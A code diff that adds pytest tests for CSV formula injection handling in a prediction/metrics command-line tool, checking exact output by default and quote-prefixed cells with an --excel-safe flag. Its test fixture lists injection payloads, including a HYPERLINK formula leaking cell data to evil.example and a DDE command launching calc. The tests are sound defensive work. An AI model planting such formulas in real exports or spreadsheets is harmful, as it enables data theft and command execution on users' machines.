@@ -365,3 +365,70 @@ def test_contract_error_is_one_line_not_a_traceback(tmp_path):
     with pytest.raises(ContractError) as info:
         read_table(path)
     assert "Traceback" not in str(info.value) and "\n" not in str(info.value)
+
+
+# --- CSV formula injection (issue 13, Low): exact by default, quote-prefixed with --excel-safe ------------
+
+# The issue's HYPERLINK plus the other OWASP lead characters (+ - @ tab CR); a bare CR also tests that the
+# exact CSV keeps it (pandas' default "\n" line end wrote it unquoted: '\r=1+1' came back '=1+1').
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\tsneaky", "\r=1+1", "x\ry"]  # fmt: skip
+
+
+def _formula_rows() -> pd.DataFrame:
+    rows = []
+    for q_i, query in enumerate(FORMULAS + ["plain drill", "a-b", "e=mc2"]):
+        for i in range(4):
+            rows.append((query, f"{q_i:03d}{i}", f"{FORMULAS[i]} title", int(i < 2)))
+    return pd.DataFrame(rows, columns=HEADER)
+
+
+def test_predict_csv_keeps_formula_text_exact_and_metrics_reads_it_back(tmp_path, cli_env, tiny_model):
+    source = _formula_rows()
+    data = tmp_path / "eval.parquet"
+    source.to_parquet(data, index=False)
+    out = tmp_path / "scored.csv"
+    res = cli_env.invoke(app, ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(out)])
+    assert res.exit_code == 0, res.output
+    scored = read_frame(out, numeric=("score",))
+    assert scored["query"].tolist() == source["query"].tolist()
+    assert scored["item_title"].tolist() == source["item_title"].tolist()
+    metrics_out = tmp_path / "metrics.json"
+    res = cli_env.invoke(app, ["metrics", "--predictions", str(out), "--train", str(data), "--out",
+                               str(metrics_out), "--bootstrap", "10"])  # fmt: skip
+    assert res.exit_code == 0, res.output
+    assert json.loads(metrics_out.read_text())["data"]["queries"] == len(FORMULAS) + 3
+
+
+def test_predict_excel_safe_quotes_only_cells_a_spreadsheet_would_run(tmp_path, cli_env, tiny_model):
+    source = _formula_rows()
+    data = tmp_path / "eval.parquet"
+    source.to_parquet(data, index=False)
+    out = tmp_path / "for-excel.csv"
+    res = cli_env.invoke(app, ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(out),
+                               "--excel-safe"])  # fmt: skip
+    assert res.exit_code == 0, res.output
+    written = read_table(out)
+    expected = [("'" + q) if q[0] in "=+-@\t\r" else q for q in source["query"]]
+    assert written["query"].tolist() == expected
+    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in written.to_numpy().ravel())
+    ids = written.loc[written["query"] == "a-b", "item_id"].tolist()  # ids keep their zeros, no quote
+    assert ids == source.loc[source["query"] == "a-b", "item_id"].tolist() and ids[0].startswith("00")
+    scores = pd.to_numeric(written["score"])  # numbers are left alone
+    assert scores.between(0, 1).all()
+
+
+def test_balance_excel_safe_and_exact(tmp_path, cli_env):
+    source = _formula_rows()
+    data = tmp_path / "train.csv"
+    source.to_csv(data, index=False, lineterminator="\r\n")  # "\n" would leave the bare CRs unquoted
+    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
+    res = cli_env.invoke(app, ["balance", "--data", str(data), "--strategy", "none", "--out", str(exact)])
+    assert res.exit_code == 0, res.output
+    res = cli_env.invoke(
+        app, ["balance", "--data", str(data), "--strategy", "none", "--out", str(safe), "--excel-safe"]
+    )
+    assert res.exit_code == 0, res.output
+    assert sorted(read_table(exact)["query"]) == sorted(source["query"])
+    quoted = read_table(safe)["item_title"]
+    assert sorted(quoted) == sorted(("'" + t) if t[0] in "=+-@\t\r" else t for t in source["item_title"])
